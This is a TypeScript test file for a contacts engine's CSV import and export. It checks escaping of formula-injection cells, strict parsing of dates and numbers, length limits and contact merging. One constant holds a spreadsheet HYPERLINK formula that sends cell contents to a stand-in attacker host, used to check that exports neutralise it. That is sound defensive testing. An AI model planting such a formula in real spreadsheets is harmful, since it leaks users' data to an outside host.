import { randomBytes } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { checkAttributes, type AttributeSchema } from '../../engine/contacts/attribute-schema.js';
import {
  csvRecord,
  fromSpreadsheetText,
  parseCsv,
  spreadsheetText,
} from '../../engine/contacts/csv.js';
import { createWorkspace, type OtherWorkspace } from '../api/workspaces.js';
import { databaseVariants, startTestEngine, uniqueSuffix } from '../support/engine.js';
import { apiClient, type ApiClient } from '../support/http.js';
import { send } from './support.js';

interface ImportReport {
  imported: number;
  updated: number;
  rejected: { row: number; reason: string }[];
  warnings: { row: number; reason: string }[];
}

const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")';

async function importCsv(api: ApiClient, lines: readonly string[]) {
  const res = await api.request('POST', '/v1/contacts/import', {
    body: lines.join('\r\n'),
    headers: { 'content-type': 'text/csv' },
  });
  const text = await res.text();
  expect(res.status, text).toBe(200);
  return JSON.parse(text) as ImportReport;
}

async function exportCsv(api: ApiClient) {
  const res = await api.request('GET', '/v1/contacts/export.csv');
  expect(res.status).toBe(200);
  const text = await res.text();
  const parsed = parseCsv(text);
  if (!parsed.ok) throw new Error('the export is not valid CSV');
  const [header = [], ...rows] = parsed.records;
  const byUser = (userId: string) => {
    const values = rows.find((r) => r[header.indexOf('userId')] === userId);
    return values ? Object.fromEntries(header.map((h, i) => [h, values[i] ?? ''])) : undefined;
  };
  return { text, header, rows, byUser };
}

describe('text cells a spreadsheet would run as formulas', () => {
  it('are guarded with a quote, quoted, and read back without it', () => {
    const risky = [HYPERLINK, '+1 555', '-x', '@SUM(A1)', '\tx', '\rx'];
    for (const value of risky) {
      const record = csvRecord([spreadsheetText(value)]);
      expect(record.startsWith(`"'`), value).toBe(true);
      const parsed = parseCsv(record);
      expect(parsed.ok && fromSpreadsheetText(parsed.records[0]?.[0] ?? ''), value).toBe(value);
    }
    for (const value of ['plain', "it's", "'quoted'", '5', '', 'a=b'])
      expect(spreadsheetText(value)).toBe(value);
    expect(fromSpreadsheetText("'quoted'")).toBe("'quoted'");
    expect(csvRecord(['plain', 'a,b'])).toBe('plain,"a,b"\r\n');
  });
});

describe('typed attribute values read from text', () => {
  const schema: AttributeSchema = {
    definitions: new Map([
      ['renewsAt', { key: 'renewsAt', type: 'date', label: null, values: [] }],
      ['seats', { key: 'seats', type: 'number', label: null, values: [] }],
    ]),
    unknownAttributes: 'store',
  };

  it('refuses date-times on days the calendar does not have instead of moving them', () => {
    for (const value of ['2025-02-30T09:00:00Z', '2025-04-31T10:00Z', '2025-13-01T10:00Z']) {
      const checked = checkAttributes(schema, { renewsAt: value });
      expect(checked.ok, value).toBe(false);
    }
    expect(checkAttributes(schema, { renewsAt: '2024-02-29T09:00:00+01:00' })).toEqual({
      ok: true,
      values: { renewsAt: '2024-02-29T08:00:00.000Z' },
    });
  });

  it('reads numbers written in decimal only', () => {
    for (const value of ['0x1F', '0b101', '0o17', '1_000', 'Infinity'])
      expect(checkAttributes(schema, { seats: value }, 'text').ok, value).toBe(false);
    for (const [value, number] of [
      ['-5', -5],
      ['+7', 7],
      ['2.5', 2.5],
      ['.5', 0.5],
      ['1e3', 1000],
    ] as const)
      expect(checkAttributes(schema, { seats: value }, 'text')).toEqual({
        ok: true,
        values: { seats: number },
      });
  });
});

describe.each(databaseVariants())('CSV import and export defects (%s database)', (variant) => {
  let engine: Awaited<ReturnType<typeof startTestEngine>>;
  let ws: OtherWorkspace;
  let api: ApiClient;
  beforeAll(async () => {
    engine = await startTestEngine(variant);
    // Its own workspace: the exports below read every contact of it.
    ws = await createWorkspace(apiClient(engine), `csv defects ${uniqueSuffix()}`);
    api = ws.api;
    for (const [key, body] of [
      ['balance', { type: 'number' }],
      ['renewsAt', { type: 'date' }],
      ['interests', { type: 'list' }],
    ] as const)
      expect((await send(api, 'PUT', `/v1/attributes/${key}`, body)).status).toBe(201);
  });
  afterAll(async () => {
    await engine?.cleanup();
  });

  it('writes text that a spreadsheet would run as a formula with a leading quote, and reads it back', async () => {
    const s = uniqueSuffix();
    const userId = `-u-${s}`;
    const identified = await api.post('/v1/identify', {
      userId,
      traits: {
        email: `+tag.${s}@example.com`,
        note: HYPERLINK,
        phone: '+44 20 7946 0000',
        handle: '@ada',
        dash: '-5',
        tabbed: '\tx',
        balance: -5,
        [`=cmd${s}`]: 'x',
      },
    });
    expect(identified.status).toBe(200);

    const exported = await exportCsv(api);
    // The formula is text: quoted, after a `'`, so Excel and Sheets do not run it.
    expect(exported.text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`);
    expect(exported.header).toContain(`'=cmd${s}`);
    expect(exported.byUser(`'${userId}`)).toMatchObject({
      email: `'+tag.${s}@example.com`,
      note: `'${HYPERLINK}`,
      phone: "'+44 20 7946 0000",
      handle: "'@ada",
      dash: "'-5",
      tabbed: "'\tx",
      // A number is not text a spreadsheet could misread.
      balance: '-5',
    });
    for (const row of exported.rows)
      for (const [i, cell] of row.entries())
        if (exported.header[i] !== 'balance') expect(cell).not.toMatch(/^[=+\-@\t\r]/);

    // The exported file imports as it is: the added quotes are gone again.
    const report = await importCsv(api, [exported.text]);
    expect(report).toMatchObject({ imported: 0, rejected: [], warnings: [] });
    const contact = (await api.get(`/v1/contacts/${encodeURIComponent(userId)}`)).body;
    expect(contact).toMatchObject({
      userId,
      email: `+tag.${s}@example.com`,
      note: HYPERLINK,
      phone: '+44 20 7946 0000',
      handle: '@ada',
      dash: '-5',
      tabbed: '\tx',
      balance: -5,
      [`=cmd${s}`]: 'x',
    });
    const stored = await engine.deps.prisma.contact.findMany({
      where: { workspaceId: ws.id, userId: { in: [userId, `'${userId}`] } },
    });
    expect(stored).toHaveLength(1);
  }, 60_000);

  it('rejects impossible date-times and non-decimal numbers in CSV cells', async () => {
    const s = uniqueSuffix();
    const report = await importCsv(api, [
      'userId,renewsAt,balance',
      `d1-${s},2025-02-30T09:00:00Z,1`,
      `d2-${s},2025-04-31T10:00Z,2`,
      `d3-${s},2025-02-28T09:00:00Z,0x1F`,
      `d4-${s},2025-03-01T09:00:00Z,0b101`,
      `d5-${s},2025-04-30T10:00Z,-5`,
    ]);
    expect(report.rejected.map((r) => r.row)).toEqual([2, 3, 4, 5]);
    expect(report.rejected[0]?.reason).toContain('`renewsAt`');
    expect(report.rejected[2]?.reason).toContain('`balance`');
    expect(report.imported).toBe(1);
    for (const id of ['d1', 'd2', 'd3', 'd4'])
      expect((await api.get(`/v1/contacts/${id}-${s}`)).status).toBe(404);
    expect((await api.get(`/v1/contacts/d5-${s}`)).body).toMatchObject({
      renewsAt: '2025-04-30T10:00:00.000Z',
      balance: -5,
    });
    // The JSON API reads dates the same way.
    const refused = await api.post('/v1/identify', {
      userId: `d6-${s}`,
      traits: { renewsAt: '2025-02-30T09:00:00Z' },
    });
    expect(refused.status).toBe(422);
  }, 60_000);

  it('rejects rows whose user id or email is too long to index, and imports the rest', async () => {
    const s = uniqueSuffix();
    // Random text, so the database cannot compress it into the index.
    const long = (n: number) => randomBytes(n).toString('hex').slice(0, n);
    const report = await importCsv(api, [
      'userId,email,plan',
      `before-${s},,a`,
      `${long(6000)},,b`,
      `,${long(6000)}@example.com,c`,
      `${long(256)},,d`,
      `,${long(243)}@example.com,e`,
      `max-${s}${long(255 - `max-${s}`.length)},,f`,
      `,${long(242)}@example.com,g`,
      `after-${s},,h`,
    ]);
    expect(report.rejected).toEqual([
      { row: 3, reason: 'The user id is longer than 255 characters.' },
      { row: 4, reason: 'The email is longer than 254 characters.' },
      { row: 5, reason: 'The user id is longer than 255 characters.' },
      { row: 6, reason: 'The email is longer than 254 characters.' },
    ]);
    expect(report.imported).toBe(4);
    expect((await api.get(`/v1/contacts/after-${s}`)).body).toMatchObject({ plan: 'h' });
  }, 60_000);

  it('puts an email-only row on the contact an earlier row of the same chunk gave that email', async () => {
    const s = uniqueSuffix();
    const email = `x.${s}@example.com`;
    const file = ['email,userId,plan', `${email},u1-${s},pro`, `${email},,team`];
    const first = await importCsv(api, file);
    expect(first).toEqual({ imported: 1, updated: 1, rejected: [], warnings: [] });
    expect((await api.get(`/v1/contacts/u1-${s}`)).body).toMatchObject({ email, plan: 'team' });
    const contacts = await engine.deps.prisma.contact.findMany({
      where: { workspaceId: ws.id, attributes: { path: ['plan'], equals: 'team' } },
    });
    expect(contacts.map((c) => c.userId)).toEqual([`u1-${s}`]);

    // The same file again stores nothing new and lands on the same contact.
    const events = () =>
      engine.deps.prisma.event.count({ where: { workspaceId: ws.id, userId: `u1-${s}` } });
    const before = await events();
    expect(await importCsv(api, file)).toEqual({
      imported: 0,
      updated: 2,
      rejected: [],
      warnings: [],
    });
    expect(await events()).toBe(before);
  }, 60_000);

  it('counts a row as imported when it makes a new contact, whoever else holds its email', async () => {
    const s = uniqueSuffix();
    const email = `shared.${s}@example.com`;
    expect(await importCsv(api, ['email,userId', `${email},a-${s}`])).toMatchObject({
      imported: 1,
      updated: 0,
    });
    // Another user id with the same email: a new contact (the email stays with a-), a warning.
    const second = await importCsv(api, ['email,userId', `${email},b-${s}`, `${email},c-${s}`]);
    expect(second).toMatchObject({ imported: 2, updated: 0 });
    expect(second.warnings.map((w) => w.row)).toEqual([2, 3]);
    for (const userId of [`b-${s}`, `c-${s}`])
      expect((await api.get(`/v1/contacts/${userId}`)).status).toBe(200);
    // An email-only row, then a user id for it: the identify takes the anonymous contact over.
    const other = `taken.${s}@example.com`;
    expect(await importCsv(api, ['email,userId', `${other},`, `${other},d-${s}`])).toMatchObject({
      imported: 1,
      updated: 1,
    });
    expect((await api.get(`/v1/contacts/d-${s}`)).body).toMatchObject({ email: other });
    const holders = await engine.deps.prisma.contact.count({
      where: { workspaceId: ws.id, emailKey: other },
    });
    expect(holders).toBe(1);
  }, 60_000);

  it('imports its own export unchanged: list cells, id, lists and unsubscribed columns', async () => {
    const s = uniqueSuffix();
    const userId = `rt-${s}`;
    expect(
      (
        await api.post('/v1/identify', {
          userId,
          traits: {
            email: `rt.${s}@example.com`,
            tags: ['vip', 'beta'],
            interests: ['ai', 'email, sms'],
            renewsAt: '2026-01-31',
          },
        })
      ).status,
    ).toBe(200);
    expect((await api.post('/v1/lists', { key: `l-${s}` })).status).toBe(201);
    expect((await api.post(`/v1/lists/l-${s}/members`, { contacts: [userId] })).status).toBe(200);
    // The unsubscribe flow's copy of the subscription state, as it writes it.
    await engine.deps.prisma.$executeRawUnsafe(
      `UPDATE contacts SET attributes = attributes || '{"unsubscribed":true}'::jsonb
       WHERE workspace_id = $1 AND user_id = $2`,
      ws.id,
      userId,
    );

    const exported = await exportCsv(api);
    expect(exported.header).toEqual(expect.arrayContaining(['id', 'lists', 'unsubscribed']));
    expect(exported.byUser(userId)).toMatchObject({
      tags: '["vip","beta"]',
      lists: `["l-${s}"]`,
      unsubscribed: 'true',
    });
    const report = await importCsv(api, [exported.text]);
    expect(report).toMatchObject({ imported: 0, rejected: [], warnings: [] });
    expect(report.updated).toBe(exported.rows.length);

    const contact = await engine.deps.prisma.contact.findFirstOrThrow({
      where: { workspaceId: ws.id, userId },
    });
    expect(contact.attributes).toMatchObject({
      tags: ['vip', 'beta'],
      interests: ['ai', 'email, sms'],
      lists: [`l-${s}`],
      unsubscribed: true,
      renewsAt: '2026-01-31',
    });
    expect(contact.attributes).not.toHaveProperty('id');

    // Such a column is kept when renamed; a plain comma-separated list still reads as before.
    const renamed = await api.request('POST', '/v1/contacts/import?map=id:crmId', {
      body: csvRecord(['userId', 'id', 'tags']) + csvRecord([userId, 'crm-1', 'a, b']),
      headers: { 'content-type': 'text/csv' },
    });
    expect(await renamed.json()).toMatchObject({ updated: 1, rejected: [] });
    expect((await api.get(`/v1/contacts/${userId}`)).body).toMatchObject({
      crmId: 'crm-1',
      tags: ['a', 'b'],
    });
  }, 60_000);
});
